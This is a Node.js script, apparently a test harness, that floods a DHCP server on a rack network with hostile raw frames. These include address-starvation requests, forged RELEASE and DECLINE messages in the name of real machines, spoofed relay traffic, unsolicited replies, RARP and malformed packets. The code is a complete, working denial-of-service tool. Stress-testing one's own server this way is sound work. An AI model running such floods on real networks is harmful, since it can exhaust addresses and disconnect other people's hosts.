// node dhcp-attack.mjs INTERFACE AGENT-MAC AGENT-IP POOL-IP MACHINE=MAC,IP…
//
// What a hostile host on the rack's wire does to whoever gives addresses there: all at once, each kind at its own rate, until all of it
// was sent. Prints "up" when it begins, and at its end one line of JSON: how many frames of each kind, and in how many seconds.
import { createRequire } from "node:module";

const KERNEL_BUFFER = 64 * 1024;
const TURN_MS = 5;
const BROADCAST = Buffer.alloc(6, 0xff);
const COOKIE = 0x63825363;
const [DISCOVER, OFFER, REQUEST, DECLINE, ACK, RELEASE] = [1, 2, 3, 4, 5, 7];

const [name, agentMacText, agentText, poolText, ...machineTexts] = process.argv.slice(2);
const macOf = (text) => Buffer.from(text.replaceAll(":", ""), "hex");
const ipOf = (text) => Buffer.from(text.split(".").map(Number));
const agentMac = macOf(agentMacText);
const agent = ipOf(agentText);
const pool = ipOf(poolText);
const machines = machineTexts.map((text) => {
  const [mac = "", ip = ""] = text.split(",");
  return { mac: macOf(mac), ip: ipOf(ip) };
});

/** mulberry32. */
let state = 42;
function random(below) {
  state = (state + 0x6d2b79f5) >>> 0;
  let t = Math.imul(state ^ (state >>> 15), 1 | state);
  t = (t + Math.imul(t ^ (t >>> 7), 61 | t)) ^ t;
  return ((t ^ (t >>> 14)) >>> 0) % below;
}

const frame = Buffer.alloc(1_514);

/** An Ethernet, IPv4 and UDP header in front of what is at 42. */
function udp(dstMac, srcMac, src, dst, srcPort, dstPort, len) {
  dstMac.copy(frame, 0);
  srcMac.copy(frame, 6);
  frame.writeUInt16BE(0x0800, 12);
  frame.fill(0, 14, 34);
  frame[14] = 0x45;
  frame.writeUInt16BE(28 + len, 16);
  frame[22] = 64;
  frame[23] = 17;
  src.copy(frame, 26);
  dst.copy(frame, 30);
  let sum = 0;
  for (let i = 14; i < 34; i += 2) sum += frame.readUInt16BE(i);
  sum = (sum & 0xffff) + (sum >>> 16);
  frame.writeUInt16BE(~((sum & 0xffff) + (sum >>> 16)) & 0xffff, 24);
  frame.writeUInt16BE(srcPort, 34);
  frame.writeUInt16BE(dstPort, 36);
  frame.writeUInt16BE(8 + len, 38);
  frame.writeUInt16BE(0, 40);
  return 42 + len;
}

/** A DHCP message at 42; its length. */
function message({ type, op = 1, mac, ciaddr, giaddr, requested, server }) {
  const at = 42;
  frame.fill(0, at, at + 300);
  frame.set([op, 1, 6, 0], at);
  frame.writeUInt32BE(random(0xffff_ffff), at + 4);
  if (ciaddr) ciaddr.copy(frame, at + 12);
  if (giaddr) giaddr.copy(frame, at + 24);
  mac.copy(frame, at + 28);
  frame.writeUInt32BE(COOKIE, at + 236);
  let end = at + 240;
  const option = (code, octets) => {
    frame.set([code, octets.length, ...octets], end);
    end += 2 + octets.length;
  };
  option(53, [type]);
  if (server) option(54, server);
  if (requested) option(50, requested);
  frame[end] = 255;
  return 300;
}

/** Whose frames go out under his own card. */
const ATTACKER = macOf("02:de:ad:00:00:01");
const ZERO = Buffer.alloc(4);
const ONES = Buffer.alloc(4, 0xff);
const PORTS = [67, 68, 69, 111, 2049, 4011, 80];

function madeUpMac() {
  const mac = Buffer.from([2, 0, 0, 0, 0, 0]);
  for (let i = 1; i < 6; i++) mac[i] = random(256);
  return mac;
}

function ofPool() {
  const address = Buffer.from(pool);
  address[3] += random(64);
  return address;
}

/** Each kind writes a frame and says how long it is. `count` of them at `perSecond`. */
const KINDS = {
  // Whoever takes all addresses: a new card for each question, and its word for an address of the pool.
  starvation: {
    count: 100_000,
    perSecond: 2_500,
    make() {
      const mac = madeUpMac();
      const asks = random(2) === 0;
      const len = message(
        asks ? { type: DISCOVER, mac } : { type: REQUEST, mac, requested: ofPool(), server: agent },
      );
      return udp(BROADCAST, mac, ZERO, ONES, 68, 67, len);
    },
  },
  // In the name of machines of the site, and of whoever may have an address of the pool.
  gaveBack: {
    count: 40_000,
    perSecond: 1_000,
    make() {
      const { mac, ip } =
        random(2) === 0 ? machines[random(machines.length)] : { mac: madeUpMac(), ip: ofPool() };
      const len =
        random(2) === 0
          ? message({ type: RELEASE, mac, ciaddr: ip, server: agent })
          : message({ type: DECLINE, mac, requested: ip, server: agent });
      return udp(BROADCAST, ATTACKER, ZERO, ONES, 68, 67, len);
    },
  },
  // As if by relays of networks that are not ours.
  relayed: {
    count: 40_000,
    perSecond: 1_000,
    make() {
      const giaddr = Buffer.from([192, 0, 2, 1 + random(250)]);
      const mac = madeUpMac();
      const len = message({ type: DISCOVER, mac, giaddr });
      const toAll = random(4) === 0;
      return udp(toAll ? BROADCAST : agentMac, mac, giaddr, toAll ? ONES : agent, 67, 67, len);
    },
  },
  // Replies, of which none was asked for: to us, and to everybody in our name.
  replies: {
    count: 40_000,
    perSecond: 1_000,
    make() {
      const mac = madeUpMac();
      const types = [OFFER, ACK];
      const len = message({
        type: types[random(2)],
        op: 2,
        mac,
        server: random(2) === 0 ? agent : ofPool(),
      });
      const toAll = random(4) === 0;
      return udp(
        toAll ? BROADCAST : agentMac,
        mac,
        ofPool(),
        toAll ? ONES : agent,
        67,
        random(2) === 0 ? 67 : 68,
        len,
      );
    },
  },
  // RARP of cards that nobody knows.
  rarp: {
    count: 20_000,
    perSecond: 500,
    make() {
      const mac = madeUpMac();
      BROADCAST.copy(frame, 0);
      mac.copy(frame, 6);
      frame.writeUInt16BE(0x8035, 12);
      frame.set([0, 1, 8, 0, 6, 4, 0, 3], 14);
      frame.fill(0, 22, 60);
      mac.copy(frame, 22);
      mac.copy(frame, 32);
      return 60;
    },
  },
  // Octets at random behind headers that are right, wrong or none.
  garbage: {
    count: 1_000_000,
    perSecond: 20_000,
    make() {
      const len = random(200);
      for (let i = 42; i < 42 + len; i += 4) frame.writeUInt32LE(random(0xffff_ffff), i);
      const toAll = random(32) === 0;
      const port = PORTS[random(PORTS.length)];
      const end = udp(
        toAll ? BROADCAST : agentMac,
        madeUpMac(),
        ofPool(),
        toAll ? ONES : agent,
        1 + random(65_535),
        port,
        len,
      );
      // Some have no right length, are fragments, or are no IPv4 at all.
      if (random(4) === 0) frame[14 + random(28)] = random(256);
      if (random(16) === 0) frame.writeUInt16BE([0x0806, 0x8035, 0x86dd, 0x8100][random(4)], 12);
      return Math.max(60, end);
    },
  },
};

const { Cap } = createRequire(import.meta.url)("cap");
const cap = new Cap();
// It hears nothing: no host has this address.
cap.open(name, "ether host 02:00:00:00:00:00", KERNEL_BUFFER, Buffer.alloc(65_535));

const startMs = performance.now();
const sent = Object.fromEntries(Object.keys(KINDS).map((kind) => [kind, 0]));
let refused = 0;

function turn() {
  const seconds = (performance.now() - startMs) / 1_000;
  let over = true;
  for (const [kind, { count, perSecond, make }] of Object.entries(KINDS)) {
    const due = Math.min(count, Math.floor(seconds * perSecond));
    for (; sent[kind] < due; sent[kind]++) {
      try {
        cap.send(frame, make());
      } catch {
        refused += 1;
      }
    }
    if (sent[kind] < count) over = false;
  }
  if (!over) {
    setTimeout(turn, TURN_MS);
    return;
  }
  process.stdout.write(
    `${JSON.stringify({ sent, refused, seconds: (performance.now() - startMs) / 1_000 })}\n`,
  );
  process.exit(0);
}

process.stdin.on("end", () => process.exit(0)).resume();
process.stdout.write("up\n");
turn();
